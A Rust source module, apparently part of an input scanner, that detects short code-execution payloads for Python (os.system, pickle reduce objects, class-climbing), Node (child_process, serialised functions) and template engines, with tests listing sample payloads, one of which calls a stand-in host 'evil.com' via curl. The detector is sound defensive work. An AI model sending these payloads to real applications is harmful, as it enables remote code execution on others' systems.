//! What a language's own means hand to a shell, or to what could: as all of a text, where a report about code has sentences
//! around it.

use crate::statement::{contains, find};
use crate::text::{contains_small, is_compact};

/// More words than this are somebody's about code.
const WORDS_MAX: usize = 12;

/// Whether Python, Node or an engine of templates would start a program.
pub(super) fn is_language(text: &[u8]) -> bool {
    // Of what most texts are nothing is searched for.
    text.iter().any(|b| matches!(b, b'(' | b'{' | b'!'))
        && is_compact(text, WORDS_MAX)
        && (is_python(text) || is_node(text) || is_template(text))
}

/// `__import__('os').system('id')`, `os.popen('id')`, `!!python/object/apply:os.system ['id']`, and the way from any
/// object to all of them: `().__class__.__base__.__subclasses__()`.
fn is_python(text: &[u8]) -> bool {
    const CALLS: [&[u8]; 3] = [b"os.system(", b"os.popen(", b"subprocess."];
    (contains(text, b"__import__(") || contains(text, b"!!python/object/")) && is_compact(text, 6)
        || CALLS.iter().any(|call| text.starts_with(call)) && is_compact(text, 3) && has_quote(text)
        || is_compact(text, 6) && climbs(text)
        || is_pickle(text.trim_ascii())
}

/// `cos\nsystem\n(S'id'\ntR.`: an object that calls a function as it is loaded, by Python's pickle (protocol 0). A line
/// names a module (`c`, or `i` behind what it is given), the next one a function of it.
fn is_pickle(text: &[u8]) -> bool {
    let is_name = |name: &[u8]| {
        name.first().is_some_and(|b| b.is_ascii_alphabetic() || *b == b'_')
            && name.iter().all(|b| crate::transform::is_word(*b) || *b == b'.')
    };
    let reduces = [&b"tR."[..], b")R.", b"\x85R."].iter().any(|end| text.ends_with(end));
    let builds = text.starts_with(b"(") && text.ends_with(b"\n.");
    if !(reduces || builds) {
        return false;
    }
    let mut lines = text.split(|b| *b == b'\n').peekable();
    while let (Some(line), Some(next)) = (lines.next(), lines.peek()) {
        let letters =
            line.iter().rev().take_while(|b| crate::transform::is_word(**b) || **b == b'.');
        let word = &line[line.len() - letters.count()..];
        let module = word.strip_prefix(if reduces { b"c" } else { b"i" });
        if module.is_some_and(is_name) && is_name(next) {
            return true;
        }
    }
    false
}

/// Whether an inner attribute of an object is asked for one that leads out of it. `__class__.__name__` does not.
fn climbs(text: &[u8]) -> bool {
    const OUT: [&[u8]; 6] =
        [b"__base__", b"__bases__", b"__builtins__", b"__globals__", b"__mro__", b"__subclasses__"];
    let mut from = 0;
    while let Some(at) = find(&text[from..], b"__.") {
        from += at + 3;
        if OUT.iter().any(|name| text[from..].starts_with(name)) {
            return true;
        }
    }
    false
}

/// `require('child_process').execSync('id')`, `process.mainModule.require('child_process')`, and a function that was serialised.
fn is_node(text: &[u8]) -> bool {
    const BINDING: [&[u8]; 2] = [b"process.binding('", b"process.binding(\""];
    contains(text, b"_$$ND_FUNC$$_")
        || BINDING.iter().any(|binding| text.starts_with(binding)) && is_compact(text, 4)
        || contains(text, b"child_process")
            && is_compact(text, 6)
            && [&b"require("[..], b"import("].iter().any(|load| contains(text, load))
            && [&b").exec"[..], b").spawn", b".exec(", b".execSync(", b"mainModule"]
                .iter()
                .any(|run| contains(text, run))
}

/// An expression of a template that leaves what it was given: `{{lipsum.__globals__.os.popen('id').read()}}`,
/// `{{['id']|filter('system')}}`, `"freemarker.template.utility.Execute"?new()("id")`.
fn is_template(text: &[u8]) -> bool {
    const INSIDES: [&[u8]; 8] = [
        b"_self.env",
        b"__globals__",
        b"__class__",
        b"__subclasses__",
        b"__builtins__",
        b".popen(",
        b"child_process",
        b"getruntime",
    ];
    const FILTERS: [&[u8]; 4] = [b"filter(", b"map(", b"sort(", b"reduce("];
    const FUNCTIONS: [&[u8]; 5] = [b"system", b"exec", b"passthru", b"shell_exec", b"popen"];
    let is_expression = [&b"{{"[..], b"{%", b"${", b"#{", b"<%", b"@{"];
    let is_expression = is_expression.iter().any(|opens| contains(text, opens));
    let is_filtered = |name: &[u8]| {
        ["'", "\""].iter().any(|q| contains(text, &[q.as_bytes(), name, q.as_bytes()].concat()))
    };
    is_expression && INSIDES.iter().any(|inside| contains_small(text, inside))
        || is_expression
            && FILTERS.iter().any(|filter| contains(text, filter))
            && FUNCTIONS.iter().any(|name| is_filtered(name))
        || contains_small(text, b"freemarker.template.utility.")
        || contains_small(text, b"system.diagnostics.process.start(")
}

fn has_quote(text: &[u8]) -> bool {
    text.iter().any(|b| matches!(b, b'\'' | b'"'))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_language_would_start_is_found_and_what_is_said_of_it_is_not() {
        for attack in [
            "__import__('os').system('id')",
            "os.popen('id').read()",
            "!!python/object/apply:os.system ['id']",
            "require('child_process').execSync('curl evil.com')",
            "global.process.mainModule.require('child_process').execSync('id')",
            "import('child_process').then(m=>m.exec('id'))",
            "_$$ND_FUNC$$_function(){x}()",
            "process.binding('spawn_sync')",
            "().__class__.__base__.__subclasses__()",
            "x.__init__.__globals__['os']()",
            "{{_self.env.display(\"x\")}}",
            "{{lipsum.__globals__.os.popen('id').read()}}",
            "{{['id']|filter('system')}}",
            "\"freemarker.template.utility.Execute\"?new()(\"id\")",
            "@{System.Diagnostics.Process.Start(\"cmd\")}",
            "cposix\npopen\n(S'id'\ntR.",
            "\u{80}csubprocess\nPopen\n(S'id'\ntR.\n",
            "(S'id'\nios\nsystem\n.",
        ] {
            assert!(is_language(attack.as_bytes()), "{attack}");
        }
        for benign in [
            "How do I get the output of require('child_process').exec in a test of mine?",
            "const { exec } = require('child_process')",
            "child_process",
            "{{name}}",
            "{{ items|map('price')|sum }}",
            "self.__class__",
            "type(self).__class__.__name__",
            "process.binding() is deprecated",
            "${user.name}",
            "os.path.join('a')",
            "the system (new)",
            "class\nname\n(see R.)",
            "(cats)\ndogs\n.",
        ] {
            assert!(!is_language(benign.as_bytes()), "{benign}");
        }
    }
}
